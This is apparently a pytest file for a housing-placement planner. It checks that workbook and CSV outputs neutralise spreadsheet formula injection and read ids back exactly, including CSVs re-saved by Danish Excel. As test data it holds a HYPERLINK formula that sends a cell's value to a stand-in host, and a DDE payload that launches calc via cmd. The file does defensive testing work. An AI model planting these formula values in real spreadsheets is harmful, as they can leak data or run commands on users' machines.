"""No formula from data: text cells in workbooks are text, CSV outputs neutralise formula starts,
and our readers give the ids back exactly."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from capacity.io.cells import FORMULA_STARTS, csv_text, neutralise, read_output_csv, restore
from capacity.reports.documents import build_review
from capacity.reports.placement_output import write_outputs
from capacity.solver.solve import place
from tests import helpers

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'


@given(st.text())
def test_neutralise_round_trips_and_never_starts_a_formula(value):
    out = neutralise(value)
    assert restore(out) == value
    assert not out.startswith(FORMULA_STARTS)


# Line breaks inside ids are left out: pandas' reader splits a quoted lone CR as a line end.
ID_TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\r\n"))


@given(ids=st.lists(ID_TEXT, min_size=1))
def test_csv_text_read_back_exactly(ids, tmp_path_factory):
    frame = pd.DataFrame({"household_id": ids, "persons": range(len(ids))})
    path = tmp_path_factory.mktemp("cells") / "x.csv"
    path.write_text(csv_text(frame), encoding="utf-8")
    back = read_output_csv(path, dtype={"household_id": str}, keep_default_na=False)
    assert back["household_id"].tolist() == ids
    assert back["persons"].tolist() == list(range(len(ids)))
    for line in path.read_text(encoding="utf-8").split("\n")[1:]:
        assert not line.lstrip('"').startswith(("=", "+", "@"))


def _hostile_ids():
    """``tiny_registry`` with a resident and an arrival whose ids are formulas (one with a
    control character Excel cannot store)."""
    reg = helpers.tiny_registry()
    ids = {"R1": FORMULA, "A1": "+cmd|' /C calc'!A0\x07"}
    households = reg.households.assign(id=reg.households["id"].replace(ids))
    occupancy = reg.occupancy.assign(household_id=reg.occupancy["household_id"].replace(ids))
    return reg.with_layers(households=households, occupancy=occupancy), ids


def test_review_workbook_has_no_formula_and_keeps_the_text():
    reg, ids = _hostile_ids()
    review = build_review(reg, dt.date(2026, 12, 1))
    book = openpyxl.load_workbook(io.BytesIO(review.xlsx))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(FORMULA in t for t in texts)
    assert any("+cmd|' /C calc'!A0\ufffd" in t for t in texts)


def test_placements_csv_neutralised_and_read_back(tmp_path):
    reg, ids = _hostile_ids()
    result = place(reg, helpers.PLACE_DAY, time_limit=5)
    write_outputs(result, tmp_path / "plan")
    text = (tmp_path / "plan" / "placements.csv").read_text(encoding="utf-8")
    assert "'+cmd" in text and "\n+cmd" not in text
    back = read_output_csv(tmp_path / "plan" / "placements.csv", dtype=str)
    assert ids["A1"] in set(back["household_id"])


def test_an_output_saved_again_by_danish_excel_reads_as_written(tmp_path):
    """A plan reviewed in Excel and saved as CSV comes back with ';', a BOM and CRLF (or in
    cp1252): our readers read it as the file we wrote, formula-like ids restored (helper's note
    on audit M5: plan.csv, modules.csv and months.csv were read with ',' only)."""
    frame = pd.DataFrame(
        {
            "site_id": ["=P1", "Æblehaven"],
            "month": ["2027-01", "2027-02"],
            "beds": [4, 10],
            "cost": [1234.5, 20.0],
        }
    )
    ours = tmp_path / "plan.csv"
    ours.write_text(csv_text(frame), encoding="utf-8")
    text = ours.read_text(encoding="utf-8").replace(",", ";").replace("\n", "\r\n")
    text = text.replace("1234.5", "1234,5").replace("20.0", "20,0")  # Danish decimal commas
    for name, data in (
        ("excel.csv", "\ufeff".encode() + text.encode("utf-8")),
        ("cp1252.csv", text.encode("cp1252")),
    ):
        (tmp_path / name).write_bytes(data)
        back = read_output_csv(tmp_path / name, dtype={"site_id": str, "month": str})
        pd.testing.assert_frame_equal(back, frame)
